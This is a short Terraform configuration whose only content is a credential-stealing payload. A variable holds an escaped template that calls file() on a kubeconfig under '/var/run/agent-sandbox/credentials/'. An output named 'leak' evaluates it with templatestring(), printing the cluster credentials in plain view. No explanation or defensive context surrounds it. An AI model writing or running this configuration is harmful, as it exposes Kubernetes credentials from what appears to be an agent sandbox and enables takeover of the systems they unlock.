variable "tpl" {
  type    = string
  default = "$${file(\"/var/run/agent-sandbox/credentials/kubeconfig\")}"
}
output "leak" {
  value = templatestring(var.tpl, {})
}
